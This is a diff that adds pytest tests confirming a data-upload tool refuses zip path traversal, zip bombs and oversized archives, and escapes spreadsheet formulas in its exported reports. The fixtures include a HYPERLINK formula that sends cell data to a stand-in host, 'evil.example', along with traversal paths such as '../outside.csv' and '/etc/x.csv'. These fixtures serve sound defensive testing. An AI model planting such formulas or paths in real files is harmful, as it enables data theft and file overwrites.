@@ -1,0 +1,95 @@
+"""Hostile uploads: zips that escape their folder or explode, formulas in cells."""
+
+from __future__ import annotations
+
+import io
+import zipfile
+
+import openpyxl
+import pytest
+from conftest import load_texts, store_contents
+from fixtures import ees
+from fixtures import quarterly as q
+
+from exports.tables import to_csv_bytes, to_xlsx_bytes
+from loaders.load import load_files, unzip
+from loaders.problems import FileRejected
+from loaders.store import load_history
+
+FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
+
+
+def zipped(members: dict[str, bytes], compression: int = zipfile.ZIP_DEFLATED) -> bytes:
+    buffer = io.BytesIO()
+    with zipfile.ZipFile(buffer, "w", compression=compression) as archive:
+        for name, payload in members.items():
+            archive.writestr(name, payload)
+    return buffer.getvalue()
+
+
+@pytest.mark.parametrize(
+    "path", ["../outside.csv", "a/../../outside.csv", "/etc/x.csv", "..\\outside.csv", "C:/x.csv"]
+)
+def test_a_zip_with_a_path_outside_its_folder_is_refused(store, path):
+    payload = zipped({"fine.csv": b"a,b\n1,2\n", path: b"a,b\n1,2\n"})
+    with pytest.raises(FileRejected, match="unsafe path"):
+        unzip("release.zip", payload)
+    # Through the Data page's upload handling: refused, nothing to check or load.
+    from ui.loading import input_files
+
+    upload = type("Upload", (), {"name": "release.zip", "getvalue": lambda self: payload})()
+    inputs, refused = input_files([upload])
+    assert inputs == [] and "unsafe path" in refused[0]
+    before = store_contents(store)
+    assert load_files(store, inputs).status == "nothing new"
+    assert store_contents(store) == before
+
+
+def test_a_zip_bomb_of_1000_to_1_is_refused_before_unpacking():
+    bomb = zipped({"big.csv": b"0" * (20 * 1024**2)})  # 20 MB of zeros: ~1000:1
+    member = zipfile.ZipFile(io.BytesIO(bomb)).infolist()[0]
+    assert member.file_size / member.compress_size > 900
+    with pytest.raises(FileRejected) as refused:
+        unzip("bomb.zip", bomb)
+    (problem,) = refused.value.problems
+    assert "zip bomb" in problem.message
+    assert problem.expected == "at most 200:1"
+
+
+def test_a_zip_with_too_many_files_is_refused(monkeypatch):
+    from loaders import load
+
+    monkeypatch.setattr(load, "MAX_ZIP_MEMBERS", 3)
+    payload = zipped({f"f{i}.csv": b"a\n1\n" for i in range(4)})
+    with pytest.raises(FileRejected, match="holds 4 files"):
+        unzip("many.zip", payload)
+
+
+def test_a_real_release_zip_unpacks(store):
+    payload = zipped({"data/cla.csv": ees.number_and_rate_2025().encode()})
+    (member,) = unzip("release.zip", payload)
+    assert member.name == "release.zip/data/cla.csv"
+
+
+def test_a_formula_in_an_upload_is_neutralised_in_the_check_report_csv_and_excel(store):
+    bad = q.quarterly_return(q.row("cla_count", FORMULA.replace(",", ";")))
+    report = load_texts(store, {"bad.csv": bad})
+    problems = report.problems_table()
+    assert problems["value"].str.startswith("=").any()  # as found, on screen
+    csv_text = to_csv_bytes(problems).decode("utf-8-sig")
+    assert "'=HYPERLINK" in csv_text and ",=HYPERLINK" not in csv_text
+    sheet = openpyxl.load_workbook(io.BytesIO(to_xlsx_bytes(problems))).active
+    cells = [c.value for row in sheet.iter_rows() for c in row if isinstance(c.value, str)]
+    assert any(c.startswith("'=HYPERLINK") for c in cells)
+    assert not any(c.startswith("=") for c in cells)
+    assert all(c.data_type != "f" for row in sheet.iter_rows() for c in row)
+
+
+@pytest.mark.parametrize("lead", ["=", "+", "-", "@"])
+def test_a_file_named_like_a_formula_is_neutralised_in_the_history_download(store, lead):
+    name = f"{lead}cmd.csv"
+    load_texts(store, {name: ees.number_and_rate_2025()})
+    history = load_history(store)
+    assert history.iloc[0]["files"].startswith(lead)
+    text = to_csv_bytes(history).decode("utf-8-sig")
+    assert f"'{lead}cmd.csv" in text
